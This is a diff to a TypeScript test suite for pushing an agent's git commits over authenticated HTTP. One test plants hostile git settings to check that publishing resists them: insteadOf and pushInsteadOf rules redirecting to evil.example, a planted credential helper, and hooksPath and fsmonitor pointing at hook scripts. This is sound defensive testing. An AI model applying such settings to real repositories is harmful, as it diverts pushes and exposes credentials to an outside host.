@@ -52,9 +52,11 @@ describe("workspace and publishing over authenticated HTTP", () => {
 		expect(await git(tree, "rev-parse", "--abbrev-ref", "HEAD")).toBe("feat/one");
 		await agentCommits(tree, "b.txt", "b\n");
 		const work = { dir: tree, manifestDir: tree, native: false };
-		expect(await ws.commitsAhead(work)).toBe(1);
-		expect(await ws.changedFiles(work)).toEqual(["b.txt"]);
-		await ws.push(work);
+		const sha = await ws.pin(work);
+		const facts = await ws.publish.facts(sha);
+		expect(facts).toMatchObject({ onBase: true, commitsAhead: 1, changesTree: true });
+		expect(facts.touched.map((t) => t.path)).toEqual(["b.txt", "b.txt"]);
+		await ws.publish.push(sha, ws.branch);
 
 		expect(await git(bare, "log", "-1", "--format=%s", "feat/one")).toBe("feat: b.txt");
 		const authed = server.requests.filter((r) => r.authorized);
@@ -96,11 +98,13 @@ describe("workspace and publishing over authenticated HTTP", () => {
 		await git(ws.clone, "config", `url.https://evil.example/.insteadOf`, `${server.url}/`);
 		const hooks = path.join(dir, "hooks");
 		await exec("mkdir", ["-p", hooks]);
-		await writeFile(path.join(hooks, "pre-push"), `#!/bin/sh\ntouch '${marker}'\n`, {
-			mode: 0o755,
-		});
+		for (const hook of ["pre-push", "reference-transaction", "post-checkout"])
+			await writeFile(path.join(hooks, hook), `#!/bin/sh\ntouch '${marker}'\n`, { mode: 0o755 });
 		await git(ws.clone, "config", "core.hooksPath", hooks);
-		await writeFile(path.join(dir, ".gitconfig"), `[credential]\n\thelper = ${planted}\n`);
+		await writeFile(
+			path.join(dir, ".gitconfig"),
+			`[credential]\n\thelper = ${planted}\n[core]\n\thooksPath = ${hooks}\n\tfsmonitor = ${path.join(hooks, "pre-push")}\n[url "https://evil.example/"]\n\tpushInsteadOf = ${server.url}/\n`,
+		);
 
 		await ws.prepare(); // a new attempt: the clone is made again
 		const config = await readFile(path.join(ws.clone, ".git", "config"), "utf8");
@@ -110,7 +114,8 @@ describe("workspace and publishing over authenticated HTTP", () => {
 		// This attempt's agent does the same before Lisa pushes.
 		await git(ws.clone, "config", "credential.helper", planted);
 		await git(ws.clone, "config", "core.hooksPath", hooks);
-		await ws.push({ dir: tree, manifestDir: tree, native: false });
+		const sha = await ws.pin({ dir: tree, manifestDir: tree, native: false });
+		await ws.publish.push(sha, ws.branch);
 		expect(await git(bare, "log", "-1", "--format=%s", "feat/two")).toBe("feat: c.txt");
 		expect(existsSync(marker)).toBe(false);
 		await rm(path.join(dir, ".gitconfig"));
@@ -129,12 +134,14 @@ describe("workspace and publishing over authenticated HTTP", () => {
 			await git(native, "rev-parse", "--show-toplevel"),
 		);
 		expect(await ws.findNativeTree()).toBe(found);
-		expect(await ws.commitsAhead({ dir: native, manifestDir: root, native: true })).toBe(1);
+		const sha = await ws.pin({ dir: native, manifestDir: root, native: true });
+		expect((await ws.publish.facts(sha)).commitsAhead).toBe(1);
 
 		await ws.discard();
 		expect(await ws.findNativeTree()).toBeUndefined();
 		await ws.prepare();
 		const tree = await ws.lisaTree();
-		expect(await ws.commitsAhead({ dir: tree, manifestDir: tree, native: false })).toBe(0);
+		const base = await ws.pin({ dir: tree, manifestDir: tree, native: false });
+		expect(await ws.publish.facts(base)).toMatchObject({ commitsAhead: 0, changesTree: false });
 	});
 });
